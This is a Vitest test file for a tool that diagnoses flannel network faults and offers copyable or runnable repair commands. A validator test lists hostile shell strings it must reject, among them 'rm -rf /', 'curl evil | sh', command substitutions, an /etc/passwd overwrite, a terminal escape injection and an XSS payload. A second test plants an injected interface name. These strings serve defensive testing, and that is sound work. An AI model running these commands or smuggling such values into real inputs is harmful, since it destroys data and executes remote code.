import { describe, expect, it } from 'vitest';
import {
  fixActions,
  isSafeToRun,
  resolveFinding,
  RUN_FIX_ACTION,
  runConfirmation,
  runFix,
  type FindingRef,
  type RunFixHost,
} from '../../../src/core/language';
import { CLUSTER, K8SNODE, keyOf, workspaceOf } from './support';

const flnode1 = keyOf(CLUSTER[0] ?? '');

describe('quick fixes', () => {
  it('offers copy and run for a finding with a repair, on its line only', () => {
    const ws = workspaceOf(CLUSTER);
    const actions = fixActions(ws, flnode1, 14);
    expect(actions.map((a) => [a.kind, a.title])).toEqual([
      ['copy', 'Copy fix for neigh-mac-mismatch: 3 commands'],
      ['run', 'Run fix for neigh-mac-mismatch in a terminal…'],
    ]);
    expect(actions[0]?.ref).toEqual({ key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' });
    expect(actions[0]?.commands).toEqual([
      'ip neigh replace 10.27.3.0 lladdr 42:32:74:de:33:99 dev flannel.1 nud permanent',
      'bridge fdb append 42:32:74:de:33:99 dev flannel.1 dst 10.18.19.13 self permanent',
      'bridge fdb del 42:32:74:de:03:03 dev flannel.1 dst 10.18.19.13 self',
    ]);
    expect(fixActions(ws, flnode1, 13)).toEqual([]);
    expect(fixActions(ws, flnode1, 1, 83)).toHaveLength(2);
    const single = fixActions(workspaceOf([K8SNODE]), keyOf(K8SNODE), 110);
    expect(single[0]?.title).toBe('Copy fix for neigh-stale: `ip neigh del 10.29.13.0 dev flannel.1`');
  });

  it('shows the node and every command verbatim before running', () => {
    const ws = workspaceOf(CLUSTER);
    const finding = resolveFinding(ws, {
      key: flnode1,
      line: 14,
      code: 'neigh-mac-mismatch',
      node: 'flnode1',
    });
    expect(finding).toBeDefined();
    const confirm = runConfirmation(finding ?? ({} as never));
    expect(confirm.message).toBe(
      'Run these 3 commands in a new terminal? They repair neigh-mac-mismatch on node flnode1: run them only on that node, as root.',
    );
    expect(confirm.detail).toBe(finding?.fix);
  });

  it('forgets a finding an edit removed', () => {
    const ws = workspaceOf(CLUSTER);
    const ref = { key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' } as const;
    ws.set(flnode1, (ws.text(flnode1) ?? '').replaceAll('42:32:74:de:03:03', '42:32:74:de:33:99'));
    expect(resolveFinding(ws, ref)).toBeUndefined();
    expect(resolveFinding(ws, { ...ref, key: 'file:///nowhere' })).toBeUndefined();
  });

  it('runs only commands with no shell syntax', () => {
    expect(
      isSafeToRun([
        'ip neigh del 10.29.13.0 dev flannel.1',
        'bridge fdb del 42:32:74:de:03:03 dev flannel.1 self',
      ]),
    ).toBe(true);
    expect(isSafeToRun(['ip link set flannel.1 up'])).toBe(true);
    // Single-quoted as fixes.ts quotes a hostile name: one literal word to the shell.
    expect(isSafeToRun(["ip link set 'flannel.1;reboot' up", `ip link set 'it'\\''s' up`])).toBe(true);
    for (const bad of [
      'ip link set x; rm -rf /',
      'ip link set `reboot` up',
      'ip link set $(reboot) up',
      'ip link set x up && curl evil | sh',
      'ip link set x up > /etc/passwd',
      "ip link set 'x' y' up",
      "ip link set 'x\ny' up",
      "ip link set 'x\u001b]52;c;eA==\u0007' up",
      'ip link set "$(reboot)" up',
      'rm -rf /',
      'ip link set x\nreboot',
      'ip link set <img/src=x/onerror=alert(1)> up',
    ]) {
      expect(isSafeToRun([bad]), bad).toBe(false);
    }
    expect(isSafeToRun([])).toBe(false);
  });

  it('quotes a hostile interface name in every command it offers', () => {
    const ws = workspaceOf([]);
    ws.set(
      'evil',
      [
        '[root@evil ~]# ip -d link',
        '3: flannel.1;reboot: <BROADCAST,MULTICAST> mtu 1450 qdisc noqueue state DOWN mode DEFAULT group default qlen 1000',
        '    link/ether 42:32:74:de:01:01 brd ff:ff:ff:ff:ff:ff promiscuity 0',
        '    vxlan id 1 local 10.18.19.11 dev eth0 srcport 0 0 dstport 8472 nolearning ttl auto ageing 300',
        '[root@evil ~]# cat /run/flannel/subnet.env',
        'FLANNEL_NETWORK=10.27.0.0/16',
        'FLANNEL_SUBNET=10.27.1.1/24',
        'FLANNEL_MTU=1450',
        'FLANNEL_IPMASQ=true',
      ].join('\n'),
      'evil.netsnap',
    );
    const actions = ws.analysis().findings.flatMap((f) => fixActions(ws, 'evil', f.line));
    const commands = actions.flatMap((a) => a.commands);
    expect(commands).toContain("ip link set 'flannel.1;reboot' up");
    expect(commands.every((c) => !c.includes(';') || c.includes("'flannel.1;reboot'"))).toBe(true);
  });

  describe('running a fix', () => {
    const ref: FindingRef = { key: flnode1, line: 14, code: 'neigh-mac-mismatch', node: 'flnode1' };
    /** A host that records what it was asked to do; `answer` is the user's choice in the confirmation. */
    function host(trusted: boolean, answer: boolean) {
      const seen = {
        warnings: [] as string[],
        confirmations: [] as { message: string; detail: string; action: string }[],
        terminals: [] as { name: string; commands: readonly string[] }[],
      };
      const h: RunFixHost = {
        trusted,
        warn: (message) => seen.warnings.push(message),
        confirm: (message, detail, action) => {
          seen.confirmations.push({ message, detail, action });
          return Promise.resolve(answer);
        },
        run: (name, commands) => seen.terminals.push({ name, commands }),
      };
      return { h, seen };
    }

    it('refuses with a warning in an untrusted workspace, before asking anything', async () => {
      const { h, seen } = host(false, true);
      expect(await runFix(workspaceOf(CLUSTER), ref, h)).toBe('untrusted');
      expect(seen.warnings).toEqual([
        'netsnap runs repair commands only in a trusted workspace. Copy the fix instead.',
      ]);
      expect(seen.confirmations).toEqual([]);
      expect(seen.terminals).toEqual([]);
    });

    it('runs exactly the finding’s commands in a new terminal, only after the modal confirmation', async () => {
      const ws = workspaceOf(CLUSTER);
      const cancelled = host(true, false);
      expect(await runFix(ws, ref, cancelled.h)).toBe('cancelled');
      expect(cancelled.seen.terminals).toEqual([]);

      const { h, seen } = host(true, true);
      expect(await runFix(ws, ref, h)).toBe('ran');
      const finding = resolveFinding(ws, ref);
      expect(seen.confirmations).toEqual([
        { ...runConfirmation(finding ?? ({} as never)), action: RUN_FIX_ACTION },
      ]);
      expect(seen.terminals).toEqual([
        {
          name: 'netsnap fix: flnode1',
          commands: [
            'ip neigh replace 10.27.3.0 lladdr 42:32:74:de:33:99 dev flannel.1 nud permanent',
            'bridge fdb append 42:32:74:de:33:99 dev flannel.1 dst 10.18.19.13 self permanent',
            'bridge fdb del 42:32:74:de:03:03 dev flannel.1 dst 10.18.19.13 self',
          ],
        },
      ]);
      expect(seen.warnings).toEqual([]);
    });

    it('runs nothing for a finding an edit removed, or for no finding at all', async () => {
      const ws = workspaceOf(CLUSTER);
      ws.set(flnode1, (ws.text(flnode1) ?? '').replaceAll('42:32:74:de:03:03', '42:32:74:de:33:99'));
      for (const r of [ref, undefined]) {
        const { h, seen } = host(true, true);
        expect(await runFix(ws, r, h)).toBe('gone');
        expect(seen.warnings).toEqual([
          'netsnap: that finding is gone after the last change; nothing was run.',
        ]);
        expect(seen.confirmations).toEqual([]);
        expect(seen.terminals).toEqual([]);
      }
    });
  });
});
